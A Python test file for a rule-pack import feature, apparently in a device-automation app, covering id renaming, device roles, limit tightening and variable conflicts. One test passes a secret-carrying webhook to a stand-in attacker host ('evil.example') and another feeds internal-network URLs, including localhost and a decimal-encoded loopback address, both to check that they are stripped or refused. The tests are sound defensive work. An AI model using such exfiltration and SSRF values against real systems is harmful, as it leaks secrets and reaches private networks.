"""Packs taken over: roles as own devices, fresh ids, one edit, limits that get tighter only."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.edits import PutGroup, applied
from app.core.groups import Group
from app.core.limits import RuleLimits
from app.core.pack_guard import PackError
from app.core.pack_import import Choices, Place, plan_import, tighter
from app.core.rules import RuleDocument, dump, to_content
from drivers.contract import Limits
from tests.app.core.packing import AROUND, ROSE, SPIN, document, pack

# ------------------------------------------------------------------------------ taken over


def test_a_pack_comes_in_off_with_fresh_ids_and_one_edit_takes_it_back():
    own = {"id": "spin-it", "name": "Mine", "on": True, "when": {"key": "follow"}, "do": []}
    doc = document(own, groups=[{"id": "spin", "name": "Spin"}])
    choices = Choices({"spinner": Place("m1", "turn")})
    plan = plan_import(doc, pack(), choices, AROUND)
    after, back = applied(doc, plan.edit)
    (mine, theirs) = after.rules.rules
    assert mine == doc.rules.rules[0]
    assert (theirs.id, theirs.name, theirs.on) == ("spin-it-2", "Spin it", False)
    assert (theirs.do[0].device, theirs.do[0].capability) == ("m1", "turn")
    assert after.group(theirs.group).name == "Spin"
    assert theirs.group == "spin-2"
    assert dump(back.apply(after)) == dump(doc)


def test_it_comes_in_on_in_groups_and_in_a_language_if_the_user_says_so():
    made = pack(
        groups=[{"id": "g", "name": "Wheel", "on": False}],
        words={"vi": {"Spin it": "Xoay đi", "Wheel": "Bánh xe"}},
        rules=[
            {"id": "a", "name": "Spin it", "on": True, "group": "g", "when": ROSE, "do": [SPIN]},
            {"id": "b", "name": "Other", "when": ROSE, "do": [SPIN]},
        ],
    )
    choices = Choices({"spinner": Place("m1")}, on=True, language="vi", gather=False)
    plan = plan_import(RuleDocument(), made, choices, AROUND)
    after = plan.edit.apply(RuleDocument())
    assert [(group.id, group.name, group.on) for group in after.rules.groups] == [
        ("banh-xe", "Bánh xe", False)
    ]
    assert [(one.id, one.name, one.on, one.group) for one in after.rules.rules] == [
        ("xoay-di", "Xoay đi", True, "banh-xe"),
        ("other", "Other", False, ""),
    ]
    gathered = plan_import(RuleDocument(), made, Choices(), AROUND)
    assert {group.name for group in gathered.groups} == {"Spin", "Wheel"}


def test_a_role_without_a_device_leaves_the_step_without_one():
    plan = plan_import(RuleDocument(), pack(), Choices(), AROUND)
    assert plan.rules[0].do[0].device == ""


@pytest.mark.parametrize("place", [Place("gone"), Place("l1"), Place("m1", "other")])
def test_a_role_is_taken_only_by_what_can_do_it(place):
    with pytest.raises(PackError, match="The device chosen for “spinner” is not there or cannot"):
        plan_import(RuleDocument(), pack(), Choices({"spinner": place}), AROUND)


def spun(step, **choices):
    made = pack(rules=[{"id": "a", "when": ROSE, "do": [{**SPIN, **step}]}])
    choices = Choices({"spinner": Place("m1")}, **choices)
    return plan_import(RuleDocument(), made, choices, AROUND).rules[0]


def test_what_is_over_a_limit_is_cut_down_and_a_ceiling_is_written_into_formulas():
    step = spun({"rounds": 500, "rpm": 900}).do[0]
    assert (step.rounds.text, step.rpm.text) == ("200", "100")
    step = spun({"rounds": "coins * count"}).do[0]
    assert step.rounds.text == "coins * count"
    step = spun({"rounds": "coins * count"}, ceiling=Limits(max_rounds=5, max_rpm=50)).do[0]
    assert (step.rounds.text, step.rpm.text) == ("min(coins * count, 5)", "50")
    with pytest.raises(PackError, match="too long for your limit to be added"):
        spun({"rounds": f"count{' ' * 190}+ 1"}, ceiling=Limits(max_rounds=5))


limits = st.builds(
    RuleLimits,
    cooldown_s=st.floats(0, 99),
    viewer_cooldown_s=st.floats(0, 99),
    device_cooldown_s=st.floats(0, 99),
    max_per_stream=st.none() | st.integers(1, 99),
    max_per_hour=st.none() | st.integers(1, 99),
    ceiling=st.none() | st.integers(1, 99),
    max_queued=st.integers(1, 99),
)


@given(limits, limits)
def test_limits_get_tighter_only(theirs, own):
    both = tighter(theirs, own)
    for one in (theirs, own):
        for name in ("cooldown_s", "viewer_cooldown_s", "device_cooldown_s"):
            assert getattr(both, name) >= getattr(one, name)
        for name in ("max_per_stream", "max_per_hour", "ceiling", "max_queued"):
            if getattr(one, name) is not None:
                assert getattr(both, name) <= getattr(one, name)


def test_a_profile_that_is_full_takes_no_more():
    doc = document()
    for n in range(1_000):
        doc = PutGroup(Group(id=f"g{n}")).apply(doc)
    with pytest.raises(PackError, match="no room"):
        plan_import(doc, pack(), Choices(), AROUND)
    assert to_content(doc)["rules"] == []


COUNTING = [
    {"key": "add_variable", "name": "score", "amount": "score + bonus"},
    {"key": "speak", "text": "Score {score}"},
]


def counting(**choices):
    made = pack(
        variables=[{"name": "score", "value": 5}, {"name": "other"}],
        words={"vi": {"Score {score}": "Điểm {score}"}},
        rules=[{"id": "a", "name": "A", "when": ROSE, "do": COUNTING}],
    )
    return plan_import(RuleDocument(), made, Choices(**choices), AROUND)


def test_a_variable_that_the_user_has_already_comes_under_another_name():
    plan = counting(language="vi")
    assert plan.renamed == {"score": "score_2"}
    assert [(one.name, one.value) for one in plan.variables] == [("score_2", 5.0), ("other", 0.0)]
    adding, saying = plan.rules[0].do
    assert (adding.name, adding.amount.text) == ("score_2", "score_2 + bonus")
    assert saying.text.text == "Điểm {score_2}"


def test_the_same_pack_twice_counts_twice():
    made = pack(rules=[{"id": "a", "name": "A", "when": ROSE, "do": COUNTING}])
    doc = RuleDocument()
    for _ in range(2):
        doc = plan_import(doc, made, Choices(), AROUND).edit.apply(doc)
    first, second = doc.rules.rules
    assert (first.do[0].name, second.do[0].name) == ("score_2", "score_3")
    assert (first.do[0].amount.text, second.do[0].amount.text) == (
        "score_2 + bonus",
        "score_3 + bonus_2",
    )


def test_who_wants_to_share_variables_may():
    plan = counting(share=True)
    assert (plan.renamed, plan.rules[0].do[0].name) == ({}, "score")


def test_a_name_that_does_not_fit_any_more_is_told_with_its_rule():
    step = {**COUNTING[0], "amount": f"score +{' ' * 192}1"}
    made = pack(rules=[{"id": "a", "name": "A", "when": ROSE, "do": [step]}])
    with pytest.raises(PackError, match=r"^In “A”: You have a variable “score” already"):
        plan_import(RuleDocument(), made, Choices(), AROUND)
    assert plan_import(RuleDocument(), made, Choices(share=True), AROUND).rules


def test_a_stranger_gets_no_secret_no_rule_and_no_device_of_the_users():
    steps = [
        {"key": "webhook", "url": "https://evil.example/x", "secret": "token"},
        {"key": "turn_rule", "rule": "mine", "turn": "off"},
        {"key": "run_rule", "rule": "mine"},
        SPIN,
    ]
    made = pack(rules=[{"id": "a", "name": "A", "on": True, "when": ROSE, "do": steps}])
    doc = document({"id": "mine", "name": "Mine", "when": ROSE})
    (rule,) = plan_import(doc, made, Choices(on=True), AROUND).rules
    assert rule.do[0].secret == ""
    assert [step.rule for step in rule.do[1:3]] == ["", ""]
    assert rule.do[3].device == ""


@pytest.mark.parametrize(
    "url", ["http://192.168.1.1/x", "http://localhost:8080/", "http://2130706433/"]
)
def test_a_webhook_into_the_own_network_is_refused_with_its_rule(url):
    steps = [{"key": "sequence", "do": [{"key": "webhook", "url": url}]}]
    with pytest.raises(PackError, match=r"^In “A”: "):
        pack(rules=[{"id": "a", "name": "A", "when": ROSE, "do": steps}])
